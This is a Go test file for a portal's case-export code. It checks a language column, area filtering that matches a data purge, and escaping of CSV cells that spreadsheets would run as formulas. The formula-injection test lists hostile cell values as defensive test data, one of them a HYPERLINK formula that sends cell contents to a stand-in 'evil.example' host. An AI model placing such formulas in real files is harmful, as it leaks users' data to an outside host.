package office_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/shaps-portal/shaps/intake"
	"github.com/shaps-portal/shaps/intake/office"
)

var knownAreas = []string{"Centro", "Medassino"}

func exportCase(area string) office.Case {
	return office.Case{ID: "1", Code: "VG-7K4M-Q2", ReceivedAt: t0, Status: office.StatusNew,
		Request: intake.Request{Kind: "richiesta", Category: "salute", Area: area, Name: "Giulia Bianchi", Message: "Abito in via Emilia 12."}}
}

// TestExportLanguage: the export has the language each request was sent from, as a last column.
func TestExportLanguage(t *testing.T) {
	ro := exportCase("")
	ro.Request.Language = "ro"
	rows := office.Export([]office.Case{ro}, knownAreas, false)
	if len(rows) != 1 || rows[0].Language != "ro" {
		t.Fatalf("got %+v, want one row in ro", rows)
	}
	var b bytes.Buffer
	if err := office.WriteExport(&b, "csv", rows); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(lines) != 2 {
		t.Fatalf("got %v, %v, want a header and a line", lines, err)
	}
	if h, l := lines[0][len(lines[0])-1], lines[1][len(lines[1])-1]; h != "lang" || l != "ro" {
		t.Errorf("last column: got %q and %q, want lang and ro", h, l)
	}
	b.Reset()
	if err := office.WriteExport(&b, "json", rows); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `"lang": "ro"`) {
		t.Errorf("JSON: got\n%s\nwant \"lang\": \"ro\"", b.String())
	}
}

// TestExportAreasAsPurgeKeepsThem: the export keeps an area only when it is a known one, as
// the purge does, unless the typed areas are asked for.
func TestExportAreasAsPurgeKeepsThem(t *testing.T) {
	for _, tc := range []struct {
		name, area string
		typed      bool
		want       string
	}{
		{"known area", "Medassino", false, "Medassino"},
		{"known area, other case and spaces", " medassino ", false, "Medassino"},
		{"typed street", "via Emilia 12", false, ""},
		{"typed street, asked for", "via Emilia 12", true, "via Emilia 12"},
		{"no area", "", false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows := office.Export([]office.Case{exportCase(tc.area)}, knownAreas, tc.typed)
			if len(rows) != 1 || rows[0].Area != tc.want {
				t.Fatalf("got %+v, want one row with area %q", rows, tc.want)
			}
			c := exportCase(tc.area)
			c.Purge(t0, knownAreas)
			if !tc.typed && c.Request.Area != rows[0].Area {
				t.Errorf("export gives area %q, purge keeps %q: want the same", rows[0].Area, c.Request.Area)
			}
		})
	}
}

// TestExportCSVHoldsNoFormula: cells a spreadsheet would run as formulas come out as text.
func TestExportCSVHoldsNoFormula(t *testing.T) {
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"Apri")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"}
	var all []office.Case
	for _, h := range hostile {
		c := exportCase(h)
		c.Request.Kind = h
		all = append(all, c)
	}
	var b bytes.Buffer
	if err := office.WriteExport(&b, "csv", office.Export(all, knownAreas, true)); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(hostile)+1 {
		t.Fatalf("got %d records, want a header and %d rows", len(records), len(hostile))
	}
	for i, rec := range records[1:] {
		for _, col := range []int{2, 4} { // kind and area
			if got, want := rec[col], "'"+hostile[i]; got != want {
				t.Errorf("cell %q: got %q, want %q", hostile[i], got, want)
			}
		}
		if strings.HasPrefix(rec[1], "'") || strings.HasPrefix(rec[0], "'") {
			t.Errorf("a plain cell was changed: %q", rec[:2])
		}
	}
	b.Reset()
	if err := office.WriteExport(&b, "json", office.Export(all[:1], knownAreas, true)); err != nil {
		t.Fatal(err)
	}
	var rows []office.ExportRow
	if err := json.Unmarshal(b.Bytes(), &rows); err != nil || rows[0].Area != hostile[0] {
		t.Errorf("JSON: got %+v (%v), want the value as it is: JSON has no formulas", rows, err)
	}
	if err := office.WriteExport(&b, "xlsx", nil); err == nil {
		t.Errorf("format xlsx: got no error")
	}
}
